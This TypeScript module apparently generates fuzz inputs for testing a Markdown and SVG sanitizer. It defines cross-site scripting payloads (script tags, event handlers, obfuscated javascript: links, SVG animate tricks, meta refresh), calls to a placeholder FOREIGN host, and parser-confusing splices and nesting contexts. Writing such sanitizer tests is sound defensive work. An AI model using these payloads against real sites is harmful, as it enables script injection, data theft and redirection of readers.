/**
 * Random Markdown and SVG around markup that would run scripts, load files of others or redirect
 * readers. Parsers disagree about where its tags begin and end.
 */
import fc from "fast-check";

/** The script, and the origin of the attacker's host. */
const run = "window.ran=1;new Image().src=`FOREIGN/ran`";

const attacks = [
  `<script>${run}</script>`,
  "<script src=FOREIGN/x.js></script>",
  "<script src=/media/blog/x.js></script>",
  "<style>@import 'FOREIGN/x.css';</style>",
  "<link rel=stylesheet href=FOREIGN/x.css>",
  "<link rel=modulepreload href=FOREIGN/x.js>",
  '<meta http-equiv="refresh" content="0;url=FOREIGN/x">',
  "<base href=FOREIGN/>",
  `<img src=/nothing.png alt="" onerror="${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#9;script&colon;${run}">x</a>`,
  `[x](<javascript:${run}>)`,
  "[x](javascript&#58;window.ran=1)",
  "<javascript:window.ran=1>",
  `<svg onload="${run}"></svg>`,
  `<svg><a href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<svg><a><animate attributeName="href" to="javascript:${run}"/><text y="20">x</text></a></svg>`,
  `<math><mtext href="javascript:${run}">x</mtext></math>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<iframe title="x" srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe title="x" src="javascript:parent.${run}"></iframe>`,
  "<object data=FOREIGN/x></object>",
  "<embed src=FOREIGN/x>",
];

const harmless = ["a", "<b>x</b>", "[x](./good.md)", "<br>", '<p title="x">y</p>', "<!-- x -->"];

/** Parts that something removes, or that end or start what is around them. */
const splices = [
  "<!-- -->",
  "<!---->",
  "<!-->",
  "--!>",
  "<!x>",
  "<?x",
  "<![CDATA[",
  "]]>",
  "<",
  ">",
  "/",
  ' style=""',
  ' style="a:b" ',
  " title='",
  '="',
  '"',
  "'",
  "`",
  "$",
  "\\",
  "|",
  "&",
  ";",
  "\n",
  "\n\n",
  "\n> ",
  "\n>\n> ",
  "\n- ",
  "\n    ",
  "\t",
  "&Tab;",
  "&#10;",
  "&lt;",
  "&quot;",
  "</title>",
  "</textarea>",
  "</noscript>",
  "</svg>",
  "</p>",
  "<p>",
  "<svg>",
  "<table>",
];

const textElements =
  "iframe math noembed noframes noscript option plaintext script select style svg template textarea title video xmp";

/** Places around markup, which replaces MARKUP. */
const places = [
  "a MARKUP b",
  "a\n\nMARKUP\n\nb",
  "<div>\nMARKUP\n</div>",
  "## MARKUP",
  "*MARKUP*",
  "> MARKUP",
  "- MARKUP",
  "1. > MARKUP",
  "| a |\n| - |\n| MARKUP |",
  "a[^1]\n\n[^1]: MARKUP",
  "<!-- MARKUP -->",
  "`MARKUP`",
  "```html\nMARKUP\n```",
  "$MARKUP$",
  "$$\nMARKUP\n$$",
  '[x](/about/ "MARKUP")',
  "[MARKUP](/about/)",
  "![MARKUP](x.png)",
  "[x](/about/?MARKUP)",
  "[x][MARKUP]\n\n[MARKUP]: /about/",
  "a $x MARKUP $ b",
  "<a title=/MARKUP>x</a>",
  '<a title="MARKUP">x</a>',
  "<a title='MARKUP'>x</a>",
  "<i x=\"'MARKUP'\">x</i>",
  '<div title="\n\nMARKUP\n\n"></div>',
  "<i title=\n\"<a href='./good.md' MARKUP>x</a>\">x</i>",
  "<table><tr><td>MARKUP</td></tr></table>",
  "<table>MARKUP</table>",
  "<p>MARKUP</p>",
  "<svg><![CDATA[MARKUP]]></svg>",
  "<svg><foreignObject>MARKUP</foreignObject></svg>",
  '<math><annotation-xml encoding="text/html">MARKUP</annotation-xml></math>',
  "<svg><title>MARKUP</title></svg>",
  "<svg><style>MARKUP</style></svg>",
  "<math><mtext><table><mglyph><style>MARKUP</style></mglyph></table></mtext></math>",
  ...textElements
    .split(" ")
    .flatMap((name) => [
      `<${name}>MARKUP</${name}>`,
      `<${name}><a title="</${name}>MARKUP"></a></${name}>`,
    ]),
];

/** Attacks that are well-formed XML. */
const drawings = [
  `<script>${run}</script>`,
  `<h:script>${run}</h:script>`,
  `<x:script xmlns:x="http://www.w3.org/2000/svg">${run}</x:script>`,
  '<script href="FOREIGN/x.js"/>',
  `<g onload="${run}"/>`,
  `<h:img src="FOREIGN/x" onerror="${run}"/>`,
  `<a href="java&#9;script:${run}"><text y="20">x</text></a>`,
  `<a><set attributeName="href" to="javascript:${run}"/><text y="20">x</text></a>`,
  '<h:meta http-equiv="refresh" content="0;url=FOREIGN/x"/>',
  '<h:link rel="stylesheet" href="FOREIGN/x.css"/>',
  "<style>@import url(FOREIGN/x.css);</style>",
  '<style>@im\\port "FOREIGN/x.css";</style>',
  '<h:iframe src="FOREIGN/x"/>',
  '<?xml-stylesheet href="FOREIGN/x.css"?>',
  '<rect width="9" height="9"/>',
];

const drawingPlaces = [
  "<g>MARKUP</g>",
  "<defs>MARKUP</defs>",
  "<title>MARKUP</title>",
  "<!-- MARKUP -->",
  "<![CDATA[MARKUP]]>",
  "<style>MARKUP</style>",
  "<foreignObject>MARKUP</foreignObject>",
  "<h:p>MARKUP</h:p>",
  "<h:title>MARKUP</h:title>",
  "<g xmlns='x:y'>MARKUP</g>",
];

/** Puts parts of texts into attacks, and the result into places. */
function disguise(
  all: fc.Arbitrary<string>,
  around: readonly string[],
  maxSplices: number,
): fc.Arbitrary<string> {
  return fc
    .tuple(
      all,
      fc.array(fc.tuple(fc.nat(60), fc.constantFrom(...splices)), { maxLength: maxSplices }),
      fc.array(fc.constantFrom(...around), { maxLength: 3 }),
    )
    .map(([attack, parts, chosen]) => {
      const spliced = parts.reduce(
        (text, [at, part]) => text.slice(0, at) + part + text.slice(at),
        attack,
      );
      return chosen.reduce((text, place) => place.replaceAll("MARKUP", () => text), spliced);
    });
}

const markup = disguise(
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...attacks) },
    { weight: 1, arbitrary: fc.constantFrom(...harmless) },
  ),
  places,
  3,
);

/** Text of a document. */
export const randomMarkup = fc
  .tuple(fc.array(markup, { minLength: 1, maxLength: 2 }), fc.boolean())
  .map(([parts, isQuoted]) => {
    const text = parts.join("\n\n");
    return isQuoted ? text.replaceAll(/^/gm, "> ") : text;
  });

/** SVG file. */
export const randomSvg = disguise(fc.constantFrom(...drawings), drawingPlaces, 1).map(
  (text) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">${text}</svg>`,
);
